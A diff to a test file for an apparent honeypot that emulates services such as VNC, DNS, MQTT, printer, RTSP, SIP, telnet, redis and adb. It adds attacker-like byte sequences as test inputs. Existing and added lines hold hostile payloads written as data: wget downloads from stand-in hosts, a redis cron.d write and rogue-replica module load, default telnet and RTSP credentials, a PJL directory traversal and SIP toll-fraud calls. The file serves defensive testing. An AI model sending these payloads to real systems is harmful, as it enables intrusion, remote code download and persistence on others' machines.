@@ -14,6 +14,7 @@ from eudaemon.protocols import ROOMS, load
 from eudaemon.protocols._base import Ended, HalfClosed
 from eudaemon.protocols._front import Front
 from eudaemon.protocols.kubelet.node import node_of
+from eudaemon.protocols.vnc.des import answer
 from eudaemon.testing.script import Table, visit
 from eudaemon.wire import Purse
 from eudaemon.world.host import Host
@@ -24,9 +25,24 @@ from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
 HELD_BYTES_MAX = 512 * 1024
+
+
+def vnc_login() -> tuple[bytes, ...]:
+    """What a client chooses, and what it answers to the challenge where there is one."""
+    table = Table(load("vnc")(visit(host=HOST))).open()
+    kind = table.say(b"RFB 003.008\n")[1:]
+    challenge = table.say(kind)
+    return (kind, answer(b"password", challenge)) if len(challenge) == 16 else (kind,)
+
+
 POD = node_of(HOST).pods[0]
 PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()
 
+# What a client of VNC says: version, choice, answer, shared, then messages.
+VNC = (
+    b"RFB 003.", b"008\n", *vnc_login(), b"\x01", b"\x02\0\0\x01\0\0", b"\0\x02", b"\x03\0\0\0\0\0\0\x09\0\x09",
+    b"\x04\x01\0\0\0\0\0a", b"\x06\0\0\0\0\0\0\x03ab",
+)  # fmt: skip
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
     "adb": (
@@ -36,7 +52,9 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         frame(b"WRTE", 2, 2, b"wget http://a/b\r"), frame(b"OPEN", 3, 0, b"shell,v2,raw:\0"),
         frame(b"WRTE", 3, 3, b"\0\x09\0\0\0id"),
     ),
+    "backdoor": (b"PW", b"D1", b"TID", b"SFT059\0MZ", b"MZ12345"),
     "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
+    "dns": (b"\0\x1e\0\x06\x01", b"\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03\0\x0c", b"\0\0\x10"),
     "docker": (
         b"POST /images/create?fromImage=alpine HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
         b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
@@ -57,12 +75,30 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"get a b\r\n", b"set a 0 0 5\r\n", b"abc", b"de\r\n", b"\x80\x01\0\x01\x08\0\0\0\0\0\0\x0c" + bytes(12),
         bytes(8) + b"kv", b"vv",
     ),
+    "mqtt": (
+        b"\x10", b"\x10\0\x04MQTT\x04\x02\0\x1e\0\x04nmap", b"\x82\x06\0\x01\0\x01", b"#\0",
+        b"\x33\x7f\0\x01a\0\x07",
+    ),
+    "printer": (
+        b"\x1b%-12345X@PJL ", b"INFO ID\r\n", b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=9 NAME="0:/a"\r\nabc', b"defghi",
+        b"@PJL ENTER LANGUAGE=PCL\r\n", b"\x1bE\x1b%-12",
+    ),
     "redis": (
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
+    "rtsp": (
+        b"OPTIONS ", b"* RTSP/1.0\r\n", b"CSeq: 1\r\n\r\n",
+        b"SETUP rtsp://admin:admin@a/ RTSP/1.0\r\nTransport: RTP/AVP\r\n", b"Content-Length: 3\r\n\r\nab",
+        b"c", b"$\0\0\x08ab",
+    ),
+    "sip": (
+        b"OPTIONS sip:", b"a SIP/2.0\r\n", b"Via: a\r\n\r\n",
+        b"INVITE sip:0044203123456@a SIP/2.0\r\nContent-Length: 3\r\n\r\nab", b"c",
+    ),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
+    "vnc": tuple(VNC),
 }  # fmt: skip
 # Of what a test sends at random, much is what these rooms listen to.
 WORDS = [
@@ -79,11 +115,21 @@ WORDS = [
     b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
     b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
+    b"PWD", b"TID", b"SFT053\0abc", b"\x85\x13\x3c\x9e\xa2", b"UPDF\5\0\0\0a\0", b"022\xac\r\n", b"C:\\a\r\n3\r\n",
+    b"\0\x0c\0\6\1\0\0\1\0\0\0\0\0\0", b"\0\6\1\0\0\1\0\0\0\0\0\0\1a\0\0\xff\0\1", b"\x1b" + bytes(47),
+    b"\x17\0\3\x2a" + bytes(4), b"\x10\x0c\0\4MQTT\4\2\0\0\0\0", b"\x82\6\0\1\0\1#\0", b"\x33\7\0\1a\0\1hi",
+    b"\x1b%-12345X", b"@PJL INFO ID\r\n",
+    b'@PJL FSDIRLIST NAME="0:/../.." ENTRY=1\r\n', b'@PJL FSDOWNLOAD SIZE=3 NAME="0:/a"\r\nabc',
+    b"@PJL ENTER LANGUAGE=PCL\n", b"DESCRIBE rtsp://admin:admin@a/ RTSP/1.0\r\n\r\n",
+    b"SETUP / RTSP/1.0\r\nTransport: RTP/AVP\r\n\r\n", b"$\0\0\1a",
+    b"OPTIONS sip:a SIP/2.0\r\n\r\n", b"INVITE sip:00442031234567@a SIP/2.0\r\nContent-Length: 2\r\n\r\nab",
+    b"REGISTER sip:a SIP/2.0\r\nAuthorization: Digest username=a, nonce=b, response=c\r\n\r\n", b"RFB 003.008\n",
+    b"\1", b"\2", b"\3\0\0\0\0\0\0\x09\0\x09", b"\4\1\0\0\0\0\0a", b"\6\0\0\0\0\0\0\3abc",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp")]
+SERVED = [(name, "tcp") for name in NAMES] + [(name, "udp") for name in ("catchall", "dns", "memcached", "ntp", "sip")]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
